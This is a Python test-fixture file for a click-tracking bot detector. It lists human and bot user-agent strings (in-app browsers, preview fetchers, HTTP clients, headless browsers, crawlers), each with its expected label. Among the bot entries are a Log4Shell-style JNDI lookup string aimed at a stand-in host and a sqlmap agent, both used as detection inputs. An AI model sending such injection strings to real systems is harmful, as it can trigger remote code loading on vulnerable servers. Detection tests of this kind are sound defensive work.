"""User agents as they really come: of people, and of robots."""

from pathlib import Path

import pytest
from hypothesis import strategies as st

from campaigns.clicks.types import BotReason

ANDROID = (
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36"
)

OPPO = (
    "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36"
)

IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"

WINDOWS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)

CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.101 Mobile Safari/537.36"

# Agents of people, and the application whose built-in browser it is.
PEOPLE = [
    (ANDROID, None),
    (OPPO, None),
    (f"{IPHONE} Version/17.5 Mobile/15E148 Safari/604.1", None),
    (WINDOWS, None),
    ("Mozilla/5.0 (Android 14; Mobile; rv:128.0) Gecko/128.0 Firefox/128.0", None),
    # In-app browsers
    (
        f"{OPPO} Instagram 406.0.0.58.159 Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP5B; mt6; in_ID; 1)",
        "instagram",
    ),
    (
        f"{IPHONE} Mobile/15E148 Instagram 334.0.7.34.98 (iPhone14,5; iOS 17_5_1; id_ID; id; scale=3.00; 1170x2532; 6)",
        "instagram",
    ),
    (
        f"{OPPO} Instagram 41.0.0.13.92 Android (24/7.0; 480dpi; 1080x1920; CUBOT; CUBOT NOTE 20; id_ID; 103516666)",
        "instagram",
    ),
    (f"{OPPO} [FB_IAB/FB4A;FBAV/411.1.0.29.112;]", "facebook"),
    (f"{IPHONE} Mobile/15E148 [FBAN/FBIOS;FBAV/183.0.0.41.81;FBDV/iPhone14,5;FBCR/Telkomsel;FBLC/id_ID]", "facebook"),
    (f"{OPPO} MetaIAB Facebook", "facebook"),
    (f"{OPPO} [FB_IAB/MESSENGER;FBAV/132.0.0.22.90;]", "messenger"),
    (f"{OPPO} [FB_IAB/Orca-Android;FBAV/156.0.0.16.99;]", "messenger"),
    (
        f"{OPPO} Barcelona 384.0.0.33.86 Android (35/15; 400dpi; 900x2030; nubia; Z2464N; P780F01; in_ID; 745210318)",
        "threads",
    ),
    (
        f"{OPPO} trill_2022003030 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/trill app_version/30.3.0 "
        "ByteLocale/id-ID ByteFullLocale/id-ID Region/ID",
        "tiktok",
    ),
    (
        f"{OPPO} musical_ly_2022703020 JsSdk/1.0 NetType/MOBILE Channel/googleplay AppName/musical_ly "
        "app_version/27.3.2 ByteLocale/id-ID Region/ID BytedanceWebview/d8a21c6",
        "tiktok",
    ),
    (f"{IPHONE} Mobile/15E148 musical_ly_30.3.0 JsSdk/2.0 NetType/WIFI Channel/App Store Region/ID", "tiktok"),
    ("com.ss.android.ugc.trill/270204 (Linux; U; Android 13; in_ID; RMX3511; Build/TP1A; tt-ok/3.12.13.4)", "tiktok"),
    ("com.zhiliaoapp.musically/2022703020 (Linux; U; Android 7.1.2; en; Build/N2G48H) okhttp/3.12.13", "tiktok"),
    (f"{OPPO} Line/14.9.2/IAB", "line"),
    (f"{IPHONE} Mobile/15E148 Safari Line/13.20.0", "line"),
    (f"{ANDROID} Telegram-Android/11.2.3 (Oppo CPH2557; Android 15; SDK 35; AVERAGE)", "telegram"),
    (f"{OPPO} WhatsApp/2.24.20.81", "whatsapp"),
    (f"{IPHONE} Mobile/15E148 Twitter for iPhone/10.55", "x"),
    (f"{OPPO} TwitterAndroid", "x"),
    (f"{IPHONE} Version/17.5 Mobile/15E148 Snapchat/13.44.0.45 (like Safari/8621.2.5.10.10, panda)", "snapchat"),
    (f"{OPPO} MicroMessenger/8.0.21.2120(0x28001557) WeChat/arm64 Weixin NetType/WIFI Language/id tools", "wechat"),
    (f"{IPHONE} GSA/217.0.454508427 Mobile/15E148 Safari/604.1", "google"),
    (f"{OPPO} GoogleApp/12.4.9.23.arm64", "google"),
    (f"{OPPO}Snapchat12.01.0.33 (SM-A536E; Android 13#5145012#33; gzip; )", "snapchat"),
    (f"{OPPO} [LinkedInApp/Android]", "linkedin"),
    (f"{OPPO} KAKAOTALK/10.4.3 (INAPP)", "kakaotalk"),
    # A narrower name beside the general one
    (f"{OPPO} [FBAN/mLite;FBAV/312.0.0.8.106;]", "messenger"),
    (f"{OPPO} aweme_220300 JsSdk/1.0 NetType/WIFI AppName/aweme BytedanceWebview/d8a21c6", "douyin"),
    # An advertisement inside another app
    (f"{OPPO} [FBAN/AudienceNetworkForAndroid;FBSN/Android;FBSV/15]", None),
    (f"{IPHONE} Mobile/15E148 [FBAN/AudienceNetworkForiOS;FBAV/6.15.0;FBDV/iPhone14,5]", None),
    # The app that a WebView names in a header of its own
    (f"{OPPO} X-Requested-With/org.telegram.messenger.web", "telegram"),
    (f"{OPPO} X-Requested-With/com.twitter.android", "x"),
    (f"{OPPO} [FB_IAB/FB4A;FBAV/411.1.0.29.112;] X-Requested-With/com.facebook.katana", "facebook"),
    (f"{OPPO} X-Requested-With/com.example.unknown", None),
    # Chats on desktops that open a link in a window of their own
    (WINDOWS.replace("Chrome/131.0.0.0", "Rocket.Chat/3.8.16 Chrome/106.0.5249.199 Electron/21.4.4"), None),
    (WINDOWS.replace("Chrome/131.0.0.0", "Mattermost/5.3.1 Chrome/110.0.5481.208 Electron/23.2.0"), None),
    (WINDOWS.replace("Chrome/131.0.0.0", "Teams/1.5.00.9163 Chrome/85.0.4183.121 Electron/10.4.7"), None),
    # What published lists take for robots
    (f"{OPPO} QRScanner/1.2", None),
    (f"{IPHONE} Mobile/15E148 BarcodeScanner/4.1", None),
    (f"{OPPO} Blibli.com/9.3.0", None),
    (f"{OPPO} Channel/googleplay", None),
    (f"Mozilla/5.0 (Linux; Android 6.0; CUBOT MAX Build/MRA58K) {CHROME}", None),
    (f"Mozilla/5.0 (Linux; Android 8.0.0; CUBOT_P20) {CHROME}", None),
    (
        "Mozilla/5.0 (Linux; U; Android 4.2.2; it-it; S222 Build/CUBOT) AppleWebKit/534.30 Version/4.0 Safari/534.30",
        None,
    ),
    (f"Mozilla/5.0 (Linux; Android 7.0; M bot 54) {CHROME}", None),
    (f"Mozilla/5.0 (Linux; Android 13; Spider 8) {CHROME}", None),
    (f"Mozilla/5.0 (Linux; Android 8.1.0; Newsday_E1) {CHROME} Kumparan/1.0", None),
    (f"Mozilla/5.0 (Linux; Android 8.1.0; Radar Deluxe 2) {CHROME} OperaNews/14.2", None),
    (f"Mozilla/5.0 (Linux; Android 7.1.2; google Pixel 2) {CHROME}", None),
    (f"{OPPO} SogouSearch Android1.0 version3.0 AppVersion/7702", None),
    (f"Mozilla/5.0 (Linux; Android 11; moto g(9) play Build/X) {CHROME}", None),
    ("Mozilla/5.0 (compatible; MSIE 9.0; Windows Phone OS 7.5; Trident/5.0; IEMobile/9.0; HTC; Radar 4G)", None),
    ("Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0; chromeframe/30.0.1599.101)", None),
    (
        "Mozilla/5.0 (Series40; Nokia501/14.0.4/java_runtime_version=Nokia_Asha_1_2; Profile/MIDP-2.1 "
        "Configuration/CLDC-1.1) Gecko/20100401 S40OviBrowser/5.0.0.0.30",
        None,
    ),
    (
        "Mozilla/5.0 (2822MB; 720x1411; 320x319; 411x806; Samsung SM-A115F; 10) AppleWebKit/537.36 (KHTML, like Gecko) "
        " ROBLOX Android App 2.448.411159 Phone Hybrid()  GooglePlayStore RobloxApp/2.448.411159 (GlobalDist)",
        None,
    ),
    ("UCWEB/2.0 (Java; U; MIDP-2.0; Nokia203/20.37) U2/1.0.0 UCMini/10.9.8 (SpeedMode; Proxy; Android 4.4.4)", None),
    ("Opera/9.80 (Android; Opera Mini/12.0.1987/37.7327; U; id) Presto/2.12.423 Version/12.16", None),
    # An application's own client names the phone, and does not tell whether somebody waits: see decision 8.
    ("Dalvik/1.6.0 (Linux; U; Android 4.4.2; SM-T231 Build/KOT49H) [FBAN/FB4A;FBAV/26.0.0.22.16;]", "facebook"),
    (
        f"{IPHONE} Mobile/15E148 MicroMessenger/8.0.49(0x18003137) NetType/WIFI CFNetwork/1474 Darwin/23.0.0",
        "wechat",
    ),
    ("ExampleApp/2.1 (Linux; U; Android 11; SM-A505FN Build/RP1A) okhttp/4.9.0", None),
]

# Agents of robots, and the reason.
ROBOTS = [
    # Previews
    ("WhatsApp/2.23.20.0 A", BotReason.PREVIEW),
    ("WhatsApp/2.2413.1 W", BotReason.PREVIEW),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", BotReason.PREVIEW),
    ("Facebot", BotReason.PREVIEW),
    ("facebookexternalhit/1.1;line-poker/1.0", BotReason.PREVIEW),
    ("facebookexternalhit/1.1; kakaotalk-scrap/1.0; +https://devtalk.kakao.com/t/scrap/33984", BotReason.PREVIEW),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
        "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
        BotReason.PREVIEW,
    ),
    ("TelegramBot (like TwitterBot)", BotReason.PREVIEW),
    ("Twitterbot/1.0", BotReason.PREVIEW),
    ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Jakarta Commons-HttpClient/3.1)", BotReason.PREVIEW),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", BotReason.PREVIEW),
    ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", BotReason.PREVIEW),
    (f"{OPPO} trill_300304 AppName/trill thirdLandingPageFeInfra", BotReason.PREVIEW),
    (
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
        "(compatible; TikTokSpider; ttspider-feedback@tiktok.com)",
        BotReason.PREVIEW,
    ),
    (
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com",
        BotReason.PREVIEW,
    ),
    ("http.rb/5.1.1 (Mastodon/4.2.1; +https://mastodon.social/)", BotReason.PREVIEW),
    ("chatterino-api-cache/1.0 link-resolver", BotReason.PREVIEW),
    ("Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)", BotReason.PREVIEW),
    ("Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)", BotReason.PREVIEW),
    ("Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)", BotReason.PREVIEW),
    ("MicrosoftPreview/2.0 +https://aka.ms/MicrosoftPreview", BotReason.PREVIEW),
    ("facebookscraper/1.0( http://www.facebook.com/sharescraper_help.php)", BotReason.PREVIEW),
    ("meta-externalfetcher/1.1", BotReason.PREVIEW),
    ("OdklBot/1.0 (share@odnoklassniki.ru)", BotReason.PREVIEW),
    ("Rocket.Chat/6.1.0 (Linux; x64)", BotReason.PREVIEW),
    ("ShareSheetUI/1 CFNetwork/1474 Darwin/23.0.0", BotReason.PREVIEW),
    ("MobileSMS/1.0 CFNetwork/1485 Darwin/23.1.0", BotReason.PREVIEW),
    ("Messages/1002.1 CFNetwork/1410.0.3 Darwin/22.6.0", BotReason.PREVIEW),
    ("com.apple.LinkPresentation/1 CFNetwork/1568 Darwin/24.0.0", BotReason.PREVIEW),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) WhatsApp/2.2424.0 "
        "Chrome/91.0.4472.164 Electron/13.6.9 Safari/537.36",
        BotReason.PREVIEW,
    ),
    # Automation
    ("Dalvik/2.1.0 (Linux; U; Android 13; SM-A536E Build/TP1A.220624.014)", BotReason.AUTOMATED),
    ("Dalvik/1.6.0 (Linux; U; Android 4.4.2; CUBOT S222 Build/KOT49H)", BotReason.AUTOMATED),
    ("ExampleApp/1 iPhone5,2 iOS/10_1 CFNetwork/808.3 Darwin/16.3.0", BotReason.AUTOMATED),
    ("Example%20App/268.0 CFNetwork/1474 Darwin/23.0.0", BotReason.AUTOMATED),
    ("Example App/3.0 (iPhone; iOS 17.0) CFNetwork/1474 Darwin/23.0.0", BotReason.AUTOMATED),
    ("com.apple.WebKit.Networking/8617.1.17 CFNetwork/1474 Darwin/23.0.0", BotReason.AUTOMATED),
    ("Messages for Example/2 CFNetwork/1474 Darwin/23.0.0", BotReason.AUTOMATED),
    ("ExampleApp/1.0 (iPhone; iOS 12.4; Scale/2.00)", BotReason.AUTOMATED),
    ("ExampleApp/1.0 (com.example.app; build:1; iOS 17.0.0) Alamofire/5.4.4", BotReason.AUTOMATED),
    ("AppleCoreMedia/1.0.0.21F90 (iPhone; U; CPU OS 17_5_1 like Mac OS X; id_id)", BotReason.AUTOMATED),
    ("stagefright/1.2 (Linux;Android 9)", BotReason.AUTOMATED),
    ("UnityPlayer/2019.4.1f1 (UnityWebRequest/1.0, libcurl/7.52.0-DEV)", BotReason.AUTOMATED),
    ("curl/8.4.0", BotReason.AUTOMATED),
    ("Wget/1.21.3", BotReason.AUTOMATED),
    ("python-requests/2.31.0", BotReason.AUTOMATED),
    ("Python/3.11 aiohttp/3.9.1", BotReason.AUTOMATED),
    ("okhttp/4.12.0", BotReason.AUTOMATED),
    ("Go-http-client/2.0", BotReason.AUTOMATED),
    ("axios/1.6.2", BotReason.AUTOMATED),
    ("Apache-HttpClient/4.5.14 (Java/17.0.9)", BotReason.AUTOMATED),
    ("Dart/3.5 (dart:io)", BotReason.AUTOMATED),
    ("PostmanRuntime/7.36.0", BotReason.AUTOMATED),
    ("ureq/2.9.1", BotReason.AUTOMATED),
    ("kube-probe/1.29", BotReason.AUTOMATED),
    ("NetworkingExtension/8620.2.5.10.7 Network/4277.42.2 iOS/17.6.1", BotReason.AUTOMATED),
    ("Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1", BotReason.AUTOMATED),
    ("Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1", BotReason.AUTOMATED),
    (WINDOWS.replace("Chrome/", "HeadlessChrome/"), BotReason.AUTOMATED),
    ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1", BotReason.AUTOMATED),
    (f"{WINDOWS} Playwright/1.40", BotReason.AUTOMATED),
    (f"{WINDOWS} Puppeteer", BotReason.AUTOMATED),
    # Crawlers
    ("meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)", BotReason.CRAWLER),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", BotReason.CRAWLER),
    (f"{ANDROID} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", BotReason.CRAWLER),
    (f"{ANDROID} (compatible; AspiegelBot)", BotReason.CRAWLER),
    (f"{ANDROID}; Bytespider;spider-feedback@bytedance.com", BotReason.CRAWLER),
    (
        f"Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; Storebot-Google/1.0) {CHROME}",
        BotReason.CRAWLER,
    ),
    (f"Mozilla/5.0 (Linux; Android 6.0.1; CUBOT MAX) {CHROME} +https://sitebulb.com", BotReason.CRAWLER),
    (f"{IPHONE} Version/17.5 Mobile/15E148 Safari/604.1 (compatible; GrapeshotCrawler/2.0)", BotReason.CRAWLER),
    (f"{IPHONE} adbeat.com/policy Mobile/15E148 Safari/605.1", BotReason.CRAWLER),
    (f"{IPHONE} Mobile/11A465 Twitter for iPhone BrandVerity/1.0 (http://www.brandverity.com/)", BotReason.CRAWLER),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        BotReason.CRAWLER,
    ),
    (f"{WINDOWS} Chrome-Lighthouse", BotReason.CRAWLER),
    ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", BotReason.CRAWLER),
    ("Mozilla/4.0 (compatible; Arachmo)", BotReason.CRAWLER),
    ("sqlmap/1.7", BotReason.AUTOMATED),
    ("${jndi:ldap://example.invalid/a}", BotReason.AUTOMATED),
    # Nothing
    ("", BotReason.EMPTY_AGENT),
    (" \t ", BotReason.EMPTY_AGENT),
    ("-", BotReason.EMPTY_AGENT),
]

# What any text can be put together from.
PIECES = [text for text, _ in PEOPLE + ROBOTS]
ANY_TEXT = st.text(max_size=300) | st.lists(
    st.sampled_from(PIECES) | st.sampled_from("();/ .,+@[]|<\0\x1b\u0130\u0661\ufffd"), max_size=8
).map("".join)

SAMPLES = Path(__file__).parents[5] / "shared" / "data"


def sample(name: str) -> list[str]:
    """The agents of a file of ../shared/data; skips the test where it is absent."""
    path = SAMPLES / name
    if not path.exists():
        pytest.skip(f"{name} is not in ../shared/data")
    return path.read_text().splitlines()
